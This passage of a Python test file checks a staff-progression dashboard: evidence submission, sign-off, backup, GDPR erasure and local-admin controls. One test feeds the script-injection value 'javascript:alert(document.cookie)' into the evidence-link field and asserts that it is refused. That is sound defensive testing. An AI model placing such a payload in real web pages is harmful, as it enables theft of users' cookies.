    assert figures["overdue"] == expected and figures["limit_days"] == 10
    assert waits["longest_working_days"].is_monotonic_decreasing
    at = signed_in(people["manager_email"], "pages/team.py", db)
    assert {metric.label: metric.value for metric in at.metric}["Sign-off overdue"] == str(expected)
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert_clean(at)
    assert any("Oldest sign-off waits by team" in expander.label for expander in at.expander)


def test_a_criterion_of_a_role_they_can_aim_for_from_what_would_it_take(db):
    people = cast(db)
    aimed = read(db, """select criterion_id, role_code, level from submittable_criteria(current_date)
                        where staff_id = ? and why = 'a role they can aim for' order by all limit 1""",
                 [people["staff"]])
    if not aimed:
        pytest.skip("this person's role feeds no other role")
    (criterion, role_code, level), = aimed
    events.submit(viewer(db, people["email"]), people["staff"], criterion, RECENTLY, "ref", "note",
                  gdpr_confirmed=True, page="career")
    assert read(db, "select status, source from stg_evidence where staff_id = ? and criterion_id = ?",
                [people["staff"], criterion]) == [("submitted", "product")]
    # The page offers the same criteria on the person's own record.
    at = signed_in(people["email"], "pages/career.py", db, params={"role": role_code, "level": level})
    assert any(expander.label == "Submit evidence for sign-off" for expander in at.expander)
    assert any(option.startswith(f"{criterion} · ") for option in at.selectbox(key="career-submit-criterion").options)


def test_backup_and_restore_keep_the_decisions_and_erasure_clears_them(db, tmp_path):
    from loaders import maintenance

    people = cast(db)
    criterion = people["criteria"][0]
    events.submit(viewer(db, people["email"]), people["staff"], criterion, RECENTLY, "https://x.example/mine",
                  "my note", gdpr_confirmed=True, page="person")
    events.decide(viewer(db, people["manager_email"]), people["staff"], criterion, RECENTLY, "approved", "ok",
                  page="team")
    history = "select * from stg_evidence where source = 'product' order by all"
    before = read(db, history)
    maintenance.backup(tmp_path / "backup", db)
    maintenance.restore(tmp_path / "backup", db)
    assert read(db, history) == before and len(before) == 1
    replacement = maintenance.erase(people["staff"], db)
    assert read(db, """select count(*) from evidence_events where staff_id = ? or note = 'my note'
                       or evidence_ref is not null""", [people["staff"]]) == [(0,)]
    assert read(db, "select status from stg_evidence where staff_id = ? and criterion_id = ?",
                [replacement, criterion]) == [("approved",)]
    # Erasing the assessor removes their name and email from the decisions they made.
    manager_replacement = maintenance.erase(people["manager"], db)
    assert read(db, "select assessor, recorded_by, recorded_by_email from evidence_events where status = 'approved'") \
        == [("Erased person", manager_replacement, None)]


def test_hostile_values_through_the_page_are_refused_with_the_message(db):
    people = cast(db)
    at = signed_in(people["email"], "pages/person.py", db)
    submit_through_page(at, people["criteria"][0], "javascript:alert(document.cookie)", "A note")
    assert "javascript: link is not allowed" in errors(at)
    submit_through_page(at, people["criteria"][0], "Work area/evidence", "A note", day=TODAY, confirm=False)
    assert "confirm the GDPR reminder" in errors(at)
    assert read(db, "select count(*) from evidence_events") == [(0,)]


def test_local_administration_signs_off_but_only_when_it_is_really_on(db, monkeypatch):
    people = cast(db)
    events.submit(viewer(db, people["email"]), people["staff"], people["criteria"][0], RECENTLY, "ref", "note",
                  gdpr_confirmed=True, page="person")
    local = Viewer("local", "admin")
    monkeypatch.delenv("PROGRESSION_LOCAL_ADMIN", raising=False)
    with pytest.raises(EvidenceRefused, match="nobody is signed in"):
        events.decide(local, people["staff"], people["criteria"][0], RECENTLY, "approved", "", page="team")
    monkeypatch.setenv("PROGRESSION_LOCAL_ADMIN", "1")
    events.decide(local, people["staff"], people["criteria"][0], RECENTLY, "approved", "", page="team")
    assert read(db, "select assessor, recorded_by_email from evidence_events where status = 'approved'") == [
        ("Local administrator", "local")]
    # Local administration has no record of its own to submit for.
    with pytest.raises(EvidenceRefused, match="only for yourself"):
        events.submit(local, people["staff"], people["criteria"][1], RECENTLY, "ref", "note", gdpr_confirmed=True,
                      page="person")


@pytest.mark.parametrize("working_days, said", [(0, "today"), (1, "1 working day ago"), (12, "12 working days ago")])
def test_the_queue_says_how_long_an_item_has_waited_in_words(working_days, said):
    from dashboard.evidence import waited

    assert waited(working_days) == said
